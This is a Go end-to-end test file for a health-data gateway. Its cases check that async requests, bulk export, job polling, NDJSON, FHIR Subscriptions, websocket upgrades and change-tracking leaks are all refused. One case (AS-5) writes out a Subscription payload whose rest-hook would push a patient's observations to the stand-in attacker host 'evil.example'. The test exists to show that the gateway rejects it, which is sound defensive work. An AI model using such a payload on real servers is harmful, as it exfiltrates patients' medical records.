package e2e_test

import (
	"net/http"

	"zorgsluis/internal/demo"
)

// leaksOfJobs are the rows of chapter 1.9.
var leaksOfJobs = []leak{
	{"AS-1", "Nothing is answered later: the caller's preference is not forwarded, and a 202 of the source is a 502.", func(s *stage) {
		s.source.Reset()
		plain := s.permitted(demo.GP(), at("Observation?patient=leak-a"))
		s.same(at("Prefer"), s.permitted(demo.GP(), at("Observation?patient=leak-a").with("Prefer", "respond-async, handling=lenient")), plain)
		s.wantOwnHeaders()
		s.source.Intercept(onlyObservations(func(w http.ResponseWriter, r *http.Request) bool {
			w.Header().Set("Content-Location", s.source.URL()+"/async/"+marker)
			return demo.Answer(202, fhirJSON, `{"resourceType":"Bundle","type":"searchset"}`)(w, r)
		}))
		s.failing(demo.GP(), at("Observation?patient=leak-a"))
		s.failing(demo.GP(), at("Observation/obs-lab-a"))
	}},
	{"AS-2", "There is no bulk export, in any form.", func(s *stage) {
		const query = "?_type=Observation&_typeFilter=Observation%3Fcode%3Dx&_since=2020-01-01&patient=Patient/leak-b&_elements=id&includeAssociatedData=x"
		s.turnedAway(demo.GP(), 501, "not-supported", append(called("export", query, "", "Patient/", "Group/grp-ab/", "Patient/leak-a/"), at("$export").with("Prefer", "respond-async"))...)
	}},
	{"AS-3", "There are no jobs to ask about, nor files of them.", func(s *stage) {
		s.turnedAway(demo.GP(), 501, "not-supported", at("$export-poll-status?_jobId=1"), sent(http.MethodDelete, "$export-poll-status?_jobId=1", "", ""))
		s.turnedAway(demo.GP(), 404, "not-found", ats("export/123/Patient.ndjson", "async/123", "export/123")...)
	}},
	{"AS-4", "Lines of JSON are neither given nor taken.", func(s *stage) {
		s.turnedAway(demo.GP(), 406, "not-supported", at("Observation?patient=leak-a").with("Accept", "application/fhir+ndjson"), at("Observation/obs-lab-a").with("Accept", "application/x-ndjson"))
		lines := string(s.source.Resource("Observation/obs-lab-a")) + "\n" + string(s.source.Resource("Observation/obs-lab-b")) + "\n"
		for _, media := range []string{"application/fhir+ndjson", fhirJSON} {
			s.source.Intercept(onlyObservations(demo.Answer(200, media, lines)))
			s.failing(demo.GP(), at("Observation/obs-lab-a"))
			s.failing(demo.GP(), at("Observation?patient=leak-a"))
		}
	}},
	{"AS-5", "Nothing can be subscribed to.", func(s *stage) {
		body := `{"resourceType":"Subscription","status":"requested","criteria":"Observation?patient=leak-b","channel":{"type":"rest-hook","endpoint":"https://evil.example","payload":"application/fhir+json"}}`
		s.unwritable(append(written("Subscription/1", body), sent(http.MethodPost, "Subscription", fhirJSON, body))...)
		s.batched(batch(`{"resource":`+body+`,"request":{"method":"POST","url":"Subscription"}}`), "400")
	}},
	{"AS-6", "Subscriptions are not read, their operations are refused, and no connection is upgraded.", func(s *stage) {
		s.turnedAway(demo.GP(), 501, "not-supported", append(ats("Subscription", "Subscription/1", "Subscription?criteria=x"), append(called("status", "", "Subscription/1/", "Subscription/"), called("events", "", "Subscription/1/")...)...)...)
		s.turnedAway(demo.GP(), 501, "not-supported", called("get-ws-binding-token", "", "Subscription/1/", "Subscription/")...)
		upgrade := at("Observation/obs-lab-a").with("Connection", "Upgrade", "Upgrade", "websocket", "Sec-Websocket-Version", "13", "Sec-Websocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
		s.turnedAway(demo.GP(), 400, "invalid", upgrade)
		s.turnedAway(demo.GP(), 404, "not-found", at("websocket"))
	}},
	{"AS-7", "There are no jobs that could outlive a withdrawal: after it the same question is refused at once.", func(s *stage) {
		p := s.passing("999909630", "leak-f")
		q := at("DocumentReference?patient=leak-f").with("Prefer", "respond-async")
		s.gets(demo.GP(), q, "DocumentReference/doc-leak-f")
		s.withdraw(s.h, p, partyGP)
		s.refusedAll(demo.GP(), 403, "forbidden", q)
	}},
	{"AS-8", "Who keeps asking what changed learns nothing of hidden changes.", func(s *stage) {
		q := at("Observation?patient=leak-a&_lastUpdated=gt2026-06-01")
		before := s.given(demo.GP(), q)
		s.has(`{"resourceType":"Observation","id":"obs-change","meta":{"lastUpdated":"2026-10-01T00:00:00Z"},"status":"final",SURVEY,"code":{"text":"CANARY"},"subject":{"reference":"Patient/PATIENT-A"}}`,
			`{"resourceType":"Observation","id":"obs-change-b","meta":{"lastUpdated":"2026-10-01T00:00:00Z"},"status":"final",LABORATORY,"code":{"text":"CANARY"},"subject":{"reference":"Patient/PATIENT-B"}}`)
		s.same(q, s.given(demo.GP(), q), before)
		s.turnedAway(demo.GP(), 400, "required", at("Observation?_lastUpdated=gt2026-06-01"))
	}},
}
